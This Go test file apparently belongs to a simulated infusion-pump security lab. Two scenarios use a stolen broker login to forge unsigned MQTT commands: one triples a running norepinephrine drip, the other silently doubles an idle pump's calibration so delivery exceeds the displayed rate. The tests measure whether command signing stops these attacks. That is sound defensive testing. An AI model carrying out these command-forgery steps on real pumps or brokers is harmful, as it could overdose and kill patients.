package scenarios

import (
	"context"
	"encoding/json"
	"fmt"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/pumplab/pumplab/harness"
	"github.com/pumplab/pumplab/harness/attack"
	"github.com/pumplab/pumplab/harness/oracle"
	"github.com/pumplab/pumplab/harness/score"
	"github.com/pumplab/pumplab/lab"
	"github.com/pumplab/pumplab/simulators/pumpwire"
)

// configChannel is an attacker on the comm modules' command channel: a
// broker connection with the pump server's stolen login and client
// certificate (read from the server's configuration), under the attacker's
// own client id (the pump server's would be a session takeover, which the
// broker refuses under broker-acl and which would knock the real server off
// and give the attack away). With that login the broker's ACL lets it
// command any pump, and mutual TLS lets it in: the only control left in its
// way is signed-commands, whose key is not in the broker login.
type configChannel struct {
	m *attack.MQTT
}

// dialConfigChannel connects the attacker as clientID with the pump
// server's foothold.
func dialConfigChannel(ctx context.Context, l lab.Lab, clientID string) (*configChannel, error) {
	foot, err := foothold(ctx, l, "pumpserver")
	if err != nil {
		return nil, err
	}
	m, err := attack.DialMQTT(ctx, attack.MQTTConfig{Broker: foot.MQTTURL, ClientID: clientID, Username: foot.MQTTUsername,
		Password: foot.MQTTPassword, TLS: foot.TLS, Clock: l.Clock()})
	if err != nil {
		return nil, err
	}
	return &configChannel{m: m}, nil
}

// Close disconnects.
func (c *configChannel) Close() error { return c.m.Close() }

// command publishes cmd to pumpID (an unsigned envelope "from pumpserver")
// and returns the pump's answer: the pump server's login may read the
// pump's cmd/ack topic, so the attacker awaits it instead of guessing.
func (c *configChannel) command(ctx context.Context, pumpID string, cmd pumpwire.Command) (pumpwire.CommandAck, error) {
	p, err := c.send(ctx, pumpID, cmd)
	if err != nil {
		return pumpwire.CommandAck{}, err
	}
	defer p.stop(ctx)
	ack, err := p.wait(ctx)
	if err != nil {
		return ack, fmt.Errorf("%s %s: no answer from the pump: %w", cmd.Op, pumpID, err)
	}
	return ack, nil
}

// pendingCmd is a command sent whose answer is awaited on the pump's
// cmd/ack topic.
type pendingCmd struct {
	cmdID string
	acks  *attack.Sniffer
}

// send subscribes to the pump's answers, then publishes cmd.
func (c *configChannel) send(ctx context.Context, pumpID string, cmd pumpwire.Command) (*pendingCmd, error) {
	if cmd.CmdID == "" {
		cmd.CmdID = fmt.Sprintf("%s-%s-%s", c.m.ClientID(), cmd.Op, pumpID)
	}
	acks, err := c.m.Sniff(ctx, pumpwire.Topic(pumpID, pumpwire.KindAck), 1)
	if err != nil {
		return nil, err
	}
	p := &pendingCmd{cmdID: cmd.CmdID, acks: acks}
	if _, err := c.m.ForgeCommand(ctx, pumpID, cmd); err != nil {
		p.stop(ctx)
		return nil, err
	}
	return p, nil
}

// answer returns the pump's answer if it came.
func (p *pendingCmd) answer() (pumpwire.CommandAck, bool) {
	for _, m := range p.acks.Messages() {
		if a, ok := p.match(m); ok {
			return a, true
		}
	}
	return pumpwire.CommandAck{}, false
}

func (p *pendingCmd) match(m attack.Message) (pumpwire.CommandAck, bool) {
	env, err := pumpwire.DecodeEnvelope(m.Payload)
	if err != nil {
		return pumpwire.CommandAck{}, false
	}
	var a pumpwire.CommandAck
	if json.Unmarshal(env.Body, &a) != nil || a.CmdID != p.cmdID {
		return pumpwire.CommandAck{}, false
	}
	return a, true
}

// wait awaits the pump's answer.
func (p *pendingCmd) wait(ctx context.Context) (pumpwire.CommandAck, error) {
	var ack pumpwire.CommandAck
	_, err := p.acks.WaitFor(ctx, func(m attack.Message) bool {
		a, ok := p.match(m)
		if ok {
			ack = a
		}
		return ok
	})
	return ack, err
}

func (p *pendingCmd) stop(ctx context.Context) { _ = p.acks.Stop(context.WithoutCancel(ctx)) }

// ATK-16 Direct reprogramming of a running infusion via the comm-module
// command channel (REFERENCE.md §3.1): with the pump server's broker login
// and certificate the attacker sends the proprietary set_rate command to a
// pump running norepinephrine; no order change, no nurse. Harm: DDR 3.
var _ = Describe("ATK-16 direct reprogramming through the comm module's command channel", harness.Register("ATK-16",
	"Direct reprogramming of a running infusion via comm-module command channel",
	harness.Kind("attack"), harness.Technique("T0886"), harness.Technique("T0855"), harness.Technique("T0836"), harness.Technique("T0831"),
	harness.Area("AU"), harness.Area("AC"), harness.Lifecycle("use"), harness.Target("pump"), harness.Target("broker")), func() {
	f := harness.New("atk-16-set-rate")

	It("triples a running vasopressor with no order and no nurse", func(ctx SpecContext) {
		w, cancel := f.Context(ctx, f.Timeouts.Therapy)
		defer cancel()
		pumpID := f.Lab.Pumps()[0]

		By("starting a legitimate norepinephrine drip through the clinical workflow")
		th, err := startNorepinephrine(w, f.Lab, pumpID, "MRN5516", 250)
		Expect(err).NotTo(HaveOccurred())

		By("the attacker, with the pump server's broker login and certificate, sending set_rate at three times the rate")
		const client = "atk16-maint"
		step := attack.Step{ScenarioID: "ATK-16", StepID: "ATK-16/1", Techniques: []string{"T0886", "T0855", "T0836", "T0831"},
			Tactic: "TA0106", Assets: []string{pumpID, "broker"}, Correlation: []string{"mqtt-client:" + client},
			Criteria: "the running infusion changes rate with no PCD-03 and no keypress", Control: "signed-commands", Window: 15 * time.Minute}
		var ack pumpwire.CommandAck
		err = f.Attack(w, step, func(ctx context.Context) error {
			c, err := dialConfigChannel(ctx, f.Lab, client)
			if err != nil {
				return err
			}
			defer c.Close()
			ack, err = c.command(ctx, pumpID, pumpwire.Command{Op: pumpwire.OpSetRate, Channel: "A", RateMLH: 3 * th.RateMLH})
			return err
		})
		Expect(err).NotTo(HaveOccurred())
		AddReportEntry("pump's answer", fmt.Sprintf("%s %s %s", ack.Result, ack.Code, ack.Reason))

		if f.ControlOn("signed-commands") {
			By("the pump refusing the unsigned command")
			ev := expectBlocked(w, f.Lab, "signed-commands")
			AddReportEntry("signed-commands", ev.Reason)
			Expect(ack.Result).To(Equal(pumpwire.ResultRejected))
			observeBlocked(w, f, step.StepID, th, 10*time.Minute)
			return
		}

		Expect(ack.Result).To(Equal(pumpwire.ResultAccepted), "legacy: the comm module runs any command on its cmd topic")
		By("the pump running three times the ordered rate")
		t, err := f.Lab.Devices().Truth(w, pumpID, "A")
		Expect(err).NotTo(HaveOccurred())
		Expect(t.Delivered.RateMLH).To(BeNumerically("~", 3*th.RateMLH, 0.01))
		harm, err := harmOver(w, f.Lab, th, 30*time.Minute)
		Expect(err).NotTo(HaveOccurred())
		f.Observe(step.StepID, score.Observed{Effect: true, Harm: harm})
		AddReportEntry("DDR", fmt.Sprintf("%.3f", harm.DDR))
		AddReportEntry("excess norepinephrine (mg)", fmt.Sprintf("%.4f", harm.ExcessDrug))
		Expect(harm.DDR).To(BeNumerically("~", 3.0, 0.05))
		Expect(oracle.Harmful(harm)).To(BeTrue())
	})
})

// ATK-17 Stand-by configuration tampering (REFERENCE.md §3.1): while a pump
// stands idle the attacker rewrites its motor calibration (config
// flow_calibration=2) over the command channel; the next nurse programs it
// normally and the display shows the order while the motor delivers twice
// as much. Harm: DDR 2.
var _ = Describe("ATK-17 stand-by configuration tampering", harness.Register("ATK-17", "Stand-by configuration tampering (B. Braun-style)",
	harness.Kind("attack"), harness.Technique("T0855"), harness.Technique("T0836"), harness.Technique("T0832"), harness.Technique("T0831"),
	harness.Area("AU"), harness.Area("DL"), harness.Lifecycle("configuration"), harness.Target("pump"), harness.Target("broker")), func() {
	f := harness.New("atk-17-standby-config")

	It("doubles the next infusion on an idle pump while the screen shows the order", func(ctx SpecContext) {
		w, cancel := f.Context(ctx, f.Timeouts.Therapy)
		defer cancel()
		pumpID := f.Lab.Pumps()[1]

		By("the attacker setting flow_calibration=2 on an idle pump over the command channel")
		const client = "atk17-maint"
		step := attack.Step{ScenarioID: "ATK-17", StepID: "ATK-17/1", Techniques: []string{"T0855", "T0836", "T0832", "T0831"},
			Tactic: "TA0106", Assets: []string{pumpID, "broker"}, Correlation: []string{"mqtt-client:" + client},
			Criteria: "the idle pump's stored calibration changes; its next infusion delivers twice the displayed rate",
			Control:  "signed-commands", Window: 30 * time.Minute}
		var ack pumpwire.CommandAck
		err := f.Attack(w, step, func(ctx context.Context) error {
			t, err := f.Lab.Devices().Truth(ctx, pumpID, "A")
			if err != nil {
				return err
			}
			if t.Delivered.State != "idle" {
				return fmt.Errorf("%s channel A is %q, the attack needs it idle", pumpID, t.Delivered.State)
			}
			c, err := dialConfigChannel(ctx, f.Lab, client)
			if err != nil {
				return err
			}
			defer c.Close()
			ack, err = c.command(ctx, pumpID, pumpwire.Command{Op: pumpwire.OpConfig,
				Settings: map[string]string{pumpwire.SetFlowCalibration: "2"}})
			return err
		})
		Expect(err).NotTo(HaveOccurred())
		AddReportEntry("pump's answer", fmt.Sprintf("%s %s %s", ack.Result, ack.Code, ack.Reason))

		By("a nurse starting a normal norepinephrine order on that pump")
		th, err := startNorepinephrine(w, f.Lab, pumpID, "MRN5517", 250)
		Expect(err).NotTo(HaveOccurred())

		if f.ControlOn("signed-commands") {
			By("the pump having refused the unsigned config command: the infusion runs as ordered")
			ev := expectBlocked(w, f.Lab, "signed-commands")
			AddReportEntry("signed-commands", ev.Reason)
			Expect(ack.Result).To(Equal(pumpwire.ResultRejected))
			observeBlocked(w, f, step.StepID, th, 15*time.Minute)
			return
		}

		Expect(ack.Result).To(Equal(pumpwire.ResultAccepted))
		By("the display showing the order while the motor delivers twice as much")
		t, err := f.Lab.Devices().Truth(w, pumpID, "A")
		Expect(err).NotTo(HaveOccurred())
		Expect(t.Displayed.RateMLH).To(BeNumerically("~", th.RateMLH, 0.01), "the screen shows the ordered rate")
		Expect(t.Delivered.RateMLH).To(BeNumerically("~", 2*th.RateMLH, 0.01), "the motor runs the tampered calibration")
		harm, err := harmOver(w, f.Lab, th, 30*time.Minute)
		Expect(err).NotTo(HaveOccurred())
		f.Observe(step.StepID, score.Observed{Effect: true, Harm: harm})
		AddReportEntry("displayed rate (mL/h)", fmt.Sprintf("%.3f", t.Displayed.RateMLH))
		AddReportEntry("delivered rate (mL/h)", fmt.Sprintf("%.3f", t.Delivered.RateMLH))
		AddReportEntry("DDR", fmt.Sprintf("%.3f", harm.DDR))
		Expect(harm.DDR).To(BeNumerically("~", 2.0, 0.05))
		Expect(oracle.Harmful(harm)).To(BeTrue())
	})
})
